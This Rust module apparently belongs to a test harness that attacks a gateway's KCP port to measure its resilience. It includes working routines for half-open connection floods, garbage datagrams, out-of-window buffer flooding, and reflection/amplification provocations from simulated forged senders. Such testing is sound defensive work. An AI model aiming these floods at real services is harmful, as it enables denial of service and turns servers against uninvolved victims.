//! Abuses of the KCP port: datagrams from addresses that may not be their
//! sender's.
//!
//! Forging a sender takes raw sockets; here each sender is a socket of its own,
//! which looks the same to the gateway and lets us count what comes back.

use std::io;
use std::net::UdpSocket;
use std::time::Duration;

use super::attacker::Attacker;
use super::payloads::{self, KCP_ASK_WINDOW, KCP_PUSH, kcp_segment};
use super::source::{Source, datagrams};

/// The longest datagram.
const DATAGRAM_BYTES: usize = 1400;

/// Senders that are forged.
const VICTIMS: usize = 200;

/// Senders of garbage.
const SENDERS: usize = 16;

/// Conversations that are begun and left, each from another sender.
pub(super) fn half_open(attacker: &Attacker) -> io::Result<()> {
    let to = attacker.target.endpoints.kcp;
    for number in 0.. {
        if !attacker.goes_on() {
            break;
        }
        let socket = datagrams(Source::Attacker.address(number), to)?;
        let hello = kcp_segment(number as u32 + 1, KCP_PUSH, 0, &[]);
        send(attacker, &socket, &hello);
        attacker.connected();
    }
    Ok(())
}

/// Datagrams of all lengths that mean nothing, and segments that claim what is
/// not so.
pub(super) fn garbage(attacker: &Attacker) -> io::Result<()> {
    let mut random = fastrand::Rng::with_seed(0x6b63_7000);
    let sockets = sockets(attacker, SENDERS)?;
    let mut noise = [0; DATAGRAM_BYTES];
    let mut turn = 0;
    while attacker.goes_on() {
        turn += 1;
        random.fill(&mut noise);
        let length = random.usize(1..DATAGRAM_BYTES);
        if turn % 2 == 0 {
            // A header that is sound enough to be looked into.
            let sound = kcp_segment(7, KCP_PUSH, random.u32(..), &[]);
            noise[..sound.len()].copy_from_slice(&sound);
        }
        let socket = &sockets[turn % SENDERS];
        send(attacker, socket, &noise[..length]);
        drain(attacker, socket);
    }
    Ok(())
}

/// A flood in conversations that stand but are not let in: data far ahead of
/// what was received, so that it has to be kept.
pub(super) fn windows(attacker: &Attacker) -> io::Result<()> {
    let sockets = sockets(attacker, SENDERS)?;
    let data = [7; DATAGRAM_BYTES - 24];
    let mut number = 0u32;
    while attacker.goes_on() {
        number = number.wrapping_add(1);
        let at = number as usize % SENDERS;
        // Number 0 never comes.
        let segment = kcp_segment(at as u32 + 1, KCP_PUSH, 1 + number % 127, &data);
        send(attacker, &sockets[at], &segment);
        drain(attacker, &sockets[at]);
    }
    Ok(())
}

/// Has the gateway answer logins that fail to those who never asked.
pub(super) fn reflected_logins(attacker: &Attacker) -> io::Result<()> {
    reflection(attacker, Provocation::Login)
}

/// Has the gateway report its window to those who never asked.
pub(super) fn reflected_windows(attacker: &Attacker) -> io::Result<()> {
    reflection(attacker, Provocation::Windows)
}

/// Has the gateway acknowledge data to those who never sent it.
pub(super) fn reflected_acknowledgements(attacker: &Attacker) -> io::Result<()> {
    reflection(attacker, Provocation::Data)
}

/// What a forged datagram holds.
#[derive(Clone, Copy, Debug)]
enum Provocation {
    /// A login that fails.
    Login,
    /// A question for the window in every segment.
    Windows,
    /// Data in many pieces, each of which wants its acknowledgement.
    Data,
}

/// Every victim says one thing and then only counts what comes, for as long as the
/// attack lasts: what a gateway sends again is counted.
fn reflection(attacker: &Attacker, provocation: Provocation) -> io::Result<()> {
    let sockets = sockets(attacker, VICTIMS)?;
    for (number, socket) in sockets.iter().enumerate() {
        attacker.connected();
        send(attacker, socket, &provocation.datagram(number));
    }
    while attacker.goes_on() {
        attacker.hold(Duration::from_secs(1), || {
            for socket in &sockets {
                drain(attacker, socket);
            }
        });
    }
    Ok(())
}

impl Provocation {
    fn datagram(self, number: usize) -> Vec<u8> {
        let conversation = number as u32 + 1;
        match self {
            Self::Login => {
                let login = payloads::failing_login(number as u64, 0);
                kcp_segment(conversation, KCP_PUSH, 0, &login)
            }
            Self::Windows => {
                kcp_segment(conversation, KCP_ASK_WINDOW, 0, &[]).repeat(DATAGRAM_BYTES / 24)
            }
            Self::Data => (0..DATAGRAM_BYTES as u32 / 24)
                .flat_map(|number| kcp_segment(conversation, KCP_PUSH, number, &[]))
                .collect(),
        }
    }
}

fn sockets(attacker: &Attacker, count: usize) -> io::Result<Vec<UdpSocket>> {
    let to = attacker.target.endpoints.kcp;
    (0..count)
        .map(|number| {
            let socket = datagrams(Source::Attacker.address(number), to)?;
            socket.set_nonblocking(true)?;
            Ok(socket)
        })
        .collect()
}

fn send(attacker: &Attacker, socket: &UdpSocket, datagram: &[u8]) {
    // The answer to an earlier one may be that nobody is there.
    attacker.sent(socket.send(datagram).unwrap_or(0));
}

fn drain(attacker: &Attacker, socket: &UdpSocket) {
    let mut buffer = [0; 2048];
    while let Ok(bytes) = socket.recv(&mut buffer) {
        attacker.received(bytes);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn provocations_fit_a_datagram_and_are_whole_segments() {
        for provocation in [Provocation::Login, Provocation::Windows, Provocation::Data] {
            let datagram = provocation.datagram(76);
            assert!((24..=DATAGRAM_BYTES).contains(&datagram.len()));
            let mut rest = &*datagram;
            while !rest.is_empty() {
                assert_eq!(rest[..4], 77u32.to_le_bytes());
                let length = u32::from_le_bytes(rest[20..24].try_into().unwrap()) as usize;
                rest = &rest[24 + length..];
            }
        }
    }
}
